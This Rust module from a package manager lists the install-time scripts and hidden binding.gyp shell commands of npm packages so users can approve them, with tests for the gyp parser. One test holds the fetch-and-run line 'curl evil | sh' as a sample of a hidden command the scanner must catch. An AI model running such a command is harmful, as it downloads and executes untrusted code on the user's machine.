//! Finding the code a package would run at install time.
//!
//! Three sources, all shown to the user before anything runs:
//!
//! - the `preinstall`, `install` and `postinstall` scripts of `package.json`;
//! - the implicit `node-gyp rebuild` npm adds for a package with a `binding.gyp` and neither an
//!   `install` nor a `preinstall` script;
//! - the shell commands hidden in `binding.gyp` command expansions (`<!(cmd)`, `<!@(cmd)`), which
//!   node-gyp executes while it configures the build. They are code from the package like any
//!   script, so they are listed for consent as what they are; they run only as part of the
//!   package's scripts, never on their own.
//!
//! The package's identity (name, version, key) is always the one the lockfile resolved, never the
//! `name`/`version` its tarball claims: a tarball that says it is `esbuild` while it was resolved
//! as `evil-pkg` must be asked about, whitelisted and blacklisted as `evil-pkg`.
//!
//! Bundled dependencies never run scripts (npm does not run them either: they ship prebuilt inside
//! another package's tarball).

use std::path::{Path, PathBuf};

use sandboxpm_npm::{IMPLICIT_GYP_SCRIPT, InstallEvent, PackageJson};

use crate::error::ScriptsError;

/// One installed package, as the lockfile resolved it and the linker placed it.
#[derive(Debug, Clone)]
pub struct InstalledPackage {
    /// The lockfile key (`name@version`, with a peer suffix for peer variants).
    pub key: String,
    /// The resolved name.
    pub name: String,
    /// The resolved version.
    pub version: String,
    /// The package's directory (`node_modules/.sandboxpm/<dir>/node_modules/<name>`).
    pub dir: PathBuf,
    /// Its `package.json`; only `scripts` and `gypfile` are read from it.
    pub manifest: PackageJson,
    /// Whether the package has a `binding.gyp` at its root.
    pub has_binding_gyp: bool,
    /// Whether it came bundled inside another package's tarball.
    pub bundled: bool,
    /// Whether it is an optional dependency (its failures are warnings).
    pub optional: bool,
}

/// What kind of code a [`Script`] is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ScriptKind {
    /// A script written in `package.json`.
    Lifecycle(InstallEvent),
    /// The `install` script npm adds for a `binding.gyp` (`node-gyp rebuild`).
    ImplicitGyp,
    /// A command node-gyp runs while reading `binding.gyp`; listed, never run on its own.
    GypExpansion,
}

impl ScriptKind {
    /// How the prompt names it.
    pub fn label(self) -> &'static str {
        match self {
            ScriptKind::Lifecycle(event) => event.name(),
            ScriptKind::ImplicitGyp => "install (implicit, binding.gyp)",
            ScriptKind::GypExpansion => "binding.gyp command expansion",
        }
    }

    /// The lifecycle event it runs as, or `None` for what is only listed.
    pub fn event(self) -> Option<InstallEvent> {
        match self {
            ScriptKind::Lifecycle(event) => Some(event),
            ScriptKind::ImplicitGyp => Some(InstallEvent::Install),
            ScriptKind::GypExpansion => None,
        }
    }
}

/// One piece of package code that runs at install time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    /// What it is.
    pub kind: ScriptKind,
    /// The shell command (for an expansion: the command inside the parentheses).
    pub command: String,
}

/// A package that would run code at install time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PackageScripts {
    /// The lockfile key.
    pub key: String,
    /// The resolved name.
    pub name: String,
    /// The resolved version.
    pub version: String,
    /// The package's directory.
    pub dir: PathBuf,
    /// Whether it is an optional dependency.
    pub optional: bool,
    /// Its scripts in the order npm runs them, then the `binding.gyp` expansions.
    pub scripts: Vec<Script>,
}

impl PackageScripts {
    /// `name@version`, as shown to the user and written to `.sandboxpmrc`.
    pub fn id(&self) -> String {
        format!("{}@{}", self.name, self.version)
    }

    /// The scripts that run, with their event, in order.
    pub fn runnable(&self) -> impl Iterator<Item = (InstallEvent, &str)> {
        self.scripts
            .iter()
            .filter_map(|s| Some((s.kind.event()?, s.command.as_str())))
    }
}

/// The install-time code of one package, or `None` when it runs nothing.
pub fn discover(package: &InstalledPackage) -> Result<Option<PackageScripts>, ScriptsError> {
    if package.bundled {
        return Ok(None);
    }
    let mut scripts: Vec<Script> = package
        .manifest
        .install_scripts(package.has_binding_gyp)
        .into_iter()
        .map(|(event, command)| {
            // `install_scripts` adds the implicit script only where `install` is not written.
            let implicit = event == InstallEvent::Install
                && command == IMPLICIT_GYP_SCRIPT
                && !package.manifest.scripts.contains_key("install");
            Script {
                kind: if implicit {
                    ScriptKind::ImplicitGyp
                } else {
                    ScriptKind::Lifecycle(event)
                },
                command,
            }
        })
        .collect();
    if scripts.is_empty() {
        return Ok(None);
    }
    if package.has_binding_gyp {
        let path = package.dir.join("binding.gyp");
        let text = read_lossy(&path).map_err(|source| ScriptsError::BindingGyp {
            package: format!("{}@{}", package.name, package.version),
            path: path.clone(),
            source,
        })?;
        scripts.extend(
            gyp_command_expansions(&text)
                .into_iter()
                .map(|command| Script {
                    kind: ScriptKind::GypExpansion,
                    command,
                }),
        );
    }
    Ok(Some(PackageScripts {
        key: package.key.clone(),
        name: package.name.clone(),
        version: package.version.clone(),
        dir: package.dir.clone(),
        optional: package.optional,
        scripts,
    }))
}

/// [`discover`] for every package, sorted by key.
pub fn discover_all(packages: &[InstalledPackage]) -> Result<Vec<PackageScripts>, ScriptsError> {
    let mut found = Vec::new();
    for package in packages {
        if let Some(scripts) = discover(package)? {
            found.push(scripts);
        }
    }
    found.sort_by(|a, b| a.key.cmp(&b.key));
    Ok(found)
}

fn read_lossy(path: &Path) -> std::io::Result<String> {
    let bytes = std::fs::read(path)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// The commands of the command expansions (`<!(cmd)`, `<!@(cmd)`, and the late-phase `>!` forms)
/// in the text of a `binding.gyp`, in order of appearance, without duplicates.
///
/// A `.gyp` file is a Python literal, so the expansions live inside string literals, with the
/// literal's own escaping (`"<!(node -e \"require('nan')\")"`). The literals are decoded first,
/// then each is scanned. The end of a command is found the way gyp finds it, by counting
/// brackets (not quotes): the extracted text is exactly what gyp would hand to the shell. A file
/// that is not a well-formed literal is scanned as raw text instead, so a malformed file cannot
/// hide a command from the prompt.
pub fn gyp_command_expansions(text: &str) -> Vec<String> {
    let strings = python_strings(text).unwrap_or_else(|| vec![text.to_owned()]);
    let mut out: Vec<String> = Vec::new();
    for string in &strings {
        for command in expansions_in(string) {
            if !out.contains(&command) {
                out.push(command);
            }
        }
    }
    out
}

/// Every string literal of a Python-literal text, decoded; `None` if one is not terminated.
fn python_strings(text: &str) -> Option<Vec<String>> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '#' {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
            continue;
        }
        // String prefixes (`r'…'`, `u"…"`, `br'…'`): only `r` changes how the body is read.
        let mut raw = false;
        let mut j = i;
        while j < chars.len() && j - i < 2 && matches!(chars[j], 'r' | 'R' | 'u' | 'U' | 'b' | 'B')
        {
            raw |= matches!(chars[j], 'r' | 'R');
            j += 1;
        }
        let starts_word = i == 0 || !(chars[i - 1].is_alphanumeric() || chars[i - 1] == '_');
        if j < chars.len() && matches!(chars[j], '"' | '\'') && (j == i || starts_word) {
            let (value, end) = read_string(&chars, j, raw)?;
            out.push(value);
            i = end;
        } else {
            i += 1;
        }
    }
    Some(out)
}

/// Reads the literal whose opening quote is at `start`; returns its value and the index after it.
fn read_string(chars: &[char], start: usize, raw: bool) -> Option<(String, usize)> {
    let quote = chars[start];
    let triple = chars.get(start + 1) == Some(&quote) && chars.get(start + 2) == Some(&quote);
    let mut i = start + if triple { 3 } else { 1 };
    let mut value = String::new();
    loop {
        let c = *chars.get(i)?;
        if c == '\\' {
            let next = *chars.get(i + 1)?;
            if raw {
                value.push('\\');
                value.push(next);
            } else {
                match next {
                    'n' => value.push('\n'),
                    't' => value.push('\t'),
                    '\n' => {}
                    '\\' | '\'' | '"' => value.push(next),
                    other => {
                        value.push('\\');
                        value.push(other);
                    }
                }
            }
            i += 2;
            continue;
        }
        if c == quote {
            if !triple {
                return Some((value, i + 1));
            }
            if chars.get(i + 1) == Some(&quote) && chars.get(i + 2) == Some(&quote) {
                return Some((value, i + 3));
            }
        }
        if c == '\n' && !triple {
            return None;
        }
        value.push(c);
        i += 1;
    }
}

/// The command expansions in one decoded string.
fn expansions_in(text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i + 1 < chars.len() {
        if !(matches!(chars[i], '<' | '>') && chars[i + 1] == '!') {
            i += 1;
            continue;
        }
        let mut j = i + 2;
        if chars.get(j) == Some(&'@') {
            j += 1;
        }
        // `<!pymod_do_main(module args)`: gyp imports and runs a Python module; keep the name so
        // the user sees what it is.
        let name_start = j;
        while j < chars.len() && (chars[j].is_alphanumeric() || matches!(chars[j], '_' | '-' | '.'))
        {
            j += 1;
        }
        let name: String = chars[name_start..j].iter().collect();
        if chars.get(j) != Some(&'(') {
            i += 2;
            continue;
        }
        let Some(end) = closing_bracket(&chars, j) else {
            // Unbalanced: show everything to the end rather than nothing.
            let rest: String = chars[j + 1..].iter().collect();
            out.push(with_name(&name, rest.trim()));
            break;
        };
        let body: String = chars[j + 1..end].iter().collect();
        let body = body.trim();
        if !body.is_empty() {
            out.push(with_name(&name, body));
        }
        i = end + 1;
    }
    out
}

fn with_name(name: &str, body: &str) -> String {
    if name.is_empty() {
        body.to_owned()
    } else {
        format!("{name} {body}")
    }
}

/// The index of the bracket closing the one at `open`, counting `()`, `[]` and `{}` like gyp.
fn closing_bracket(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, c) in chars.iter().enumerate().skip(open) {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expansions_in_double_quoted_strings_with_escaped_quotes() {
        let gyp = r#"{
          "targets": [{
            "target_name": "addon",
            "include_dirs": ["<!(node -e \"require('nan')\")"],
            # "<!(commented out)"
            "libraries": ["<!@(pkg-config --libs 'glib-2.0')"],
          }]
        }"#;
        assert_eq!(
            gyp_command_expansions(gyp),
            vec![
                r#"node -e "require('nan')""#.to_owned(),
                "pkg-config --libs 'glib-2.0'".to_owned()
            ]
        );
    }

    #[test]
    fn expansions_in_single_quoted_strings_with_nested_parentheses() {
        let gyp = r#"{'include_dirs': ['<!@(node -p "require(\'node-addon-api\').include")'],
                      'sources': ['>!(echo $(uname -m))', '<(module_root_dir)/x.c'],
                      'x': ['<!pymod_do_main(gen_list a b)']}"#;
        assert_eq!(
            gyp_command_expansions(gyp),
            vec![
                r#"node -p "require('node-addon-api').include""#.to_owned(),
                "echo $(uname -m)".to_owned(),
                "pymod_do_main gen_list a b".to_owned(),
            ]
        );
    }

    #[test]
    fn malformed_file_is_scanned_as_text() {
        let gyp = "{'x': '<!(curl evil | sh)\n";
        assert_eq!(gyp_command_expansions(gyp), vec!["curl evil | sh"]);
    }

    #[test]
    fn variables_are_not_commands() {
        assert!(gyp_command_expansions("{'a': '<(foo)', 'b': '<@(bar)'}").is_empty());
    }
}
